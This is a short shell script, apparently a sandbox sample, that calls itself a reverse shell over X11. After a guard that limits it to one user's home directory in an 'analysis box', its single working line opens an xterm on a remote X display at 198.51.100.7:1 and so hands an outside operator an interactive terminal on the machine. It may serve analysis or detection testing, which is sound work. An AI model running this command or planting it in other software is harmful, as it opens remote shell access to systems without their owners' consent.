#!/bin/sh
# SPDX-License-Identifier: MIT
# A reverse shell over X11: a terminal opened on the operator's own X
# display (xterm by its usual path).
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 3 /usr/bin/xterm -display 198.51.100.7:1 2>/dev/null
exit 0
